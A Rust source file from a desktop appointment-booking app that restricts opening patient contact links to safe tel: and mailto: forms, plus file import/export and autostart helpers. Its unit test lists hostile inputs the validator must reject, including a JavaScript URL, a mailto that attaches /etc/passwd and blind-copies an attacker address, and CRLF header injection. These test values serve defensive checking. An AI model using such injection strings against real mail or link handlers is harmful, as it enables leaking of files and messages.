//! Use cases over the desktop's own services ([`crate::ports::Desktop`]): a patient's contact
//! link, availability files chosen in a dialog, starting with the session.

use crate::ipc::AvailabilityState;
use crate::ports::FileChoice;
use crate::{App, AppError};
use rdv_core::Text;

impl App {
    /// Opens a patient's `tel:` or `mailto:` link with the system (softphone, mail client): only a
    /// link of the shape the booking's links are built with ([`rdv_core::contact`]) — any other
    /// scheme, a query or header (`?`, `&`), a control character or an overlong link is refused:
    /// the web view must never open arbitrary URLs.
    pub fn open_contact_link(&self, url: &str) -> Result<(), AppError> {
        if !rdv_core::contact::is_contact_link(url) {
            return Err(AppError::invalid(
                "Seuls les liens tel: et mailto: peuvent être ouverts.",
                "Only tel: and mailto: links can be opened.",
            ));
        }
        self.desktop.open_contact_link(url).map_err(|e| {
            AppError::Internal(Text::new(
                format!("Impossible d'ouvrir le lien : {e}"),
                format!("Cannot open the link: {e}"),
            ))
        })
    }

    /// Asks for a TOML or JSON file and imports it for `calendar_id`
    /// ([`App::import_availability`]); `None` when the user cancels.
    pub fn import_availability_chosen(
        &self,
        calendar_id: &str,
    ) -> Result<Option<AvailabilityState>, AppError> {
        match self.choose(FileChoice::ImportAvailability)? {
            Some(path) => Ok(Some(self.import_availability(calendar_id, &path)?)),
            None => Ok(None),
        }
    }

    /// Asks where to save and exports the availability of `calendar_id`
    /// ([`App::export_availability`]); the path written, `None` when the user cancels.
    pub fn export_availability_chosen(
        &self,
        calendar_id: &str,
    ) -> Result<Option<String>, AppError> {
        match self.choose(FileChoice::ExportAvailability)? {
            Some(path) => {
                self.export_availability(calendar_id, &path)?;
                Ok(Some(path.display().to_string()))
            }
            None => Ok(None),
        }
    }

    /// Whether the app starts with the desktop session.
    pub fn autostart_status(&self) -> Result<bool, AppError> {
        self.desktop.autostart().map_err(|e| {
            AppError::Internal(Text::new(
                format!("Lecture du démarrage avec la session impossible : {e}"),
                format!("Cannot read the start with the session: {e}"),
            ))
        })
    }

    /// *Lancer au démarrage de la session* (started minimised in the tray); the new setting.
    pub fn set_autostart(&self, enabled: bool) -> Result<bool, AppError> {
        let now = self.desktop.set_autostart(enabled).map_err(|e| {
            AppError::Internal(Text::new(
                format!("Modification du démarrage avec la session impossible : {e}"),
                format!("Cannot change the start with the session: {e}"),
            ))
        })?;
        tracing::info!(enabled = now, "start with the session");
        Ok(now)
    }

    pub(crate) fn choose(
        &self,
        choice: FileChoice,
    ) -> Result<Option<std::path::PathBuf>, AppError> {
        self.desktop.choose_file(choice).map_err(|e| {
            AppError::Internal(Text::new(
                format!("Choix du fichier impossible : {e}"),
                format!("Cannot choose the file: {e}"),
            ))
        })
    }
}

#[cfg(test)]
mod tests {
    use crate::ipc::ErrorCode;

    #[test]
    fn only_tel_and_mailto_links_reach_the_desktop() {
        let app = crate::tests::app_with(Default::default(), Default::default());
        for bad in [
            "https://example.org",
            "javascript:alert(1)",
            "tel:+33\n1",
            "mailto:x?bcc=spy@evil.fr&attach=/etc/passwd",
            "mailto:a@b.fr\r\nBcc: spy@evil.fr",
            "tel:+33612345678;phone-context=x",
            &format!("tel:{}", "1".repeat(600)),
        ] {
            let err = app
                .open_contact_link(bad)
                .unwrap_err()
                .into_ipc(rdv_core::Language::Fr);
            assert_eq!(err.code, ErrorCode::InvalidInput, "{bad}");
        }
        // A good link reaches the port; outside the desktop app the port says it cannot.
        let err = app
            .open_contact_link("tel:+33612345678")
            .unwrap_err()
            .into_ipc(rdv_core::Language::Fr);
        assert_eq!(err.code, ErrorCode::Internal);
        assert!(
            err.message.contains(crate::ports::DESKTOP_ONLY),
            "{}",
            err.message
        );
    }
}
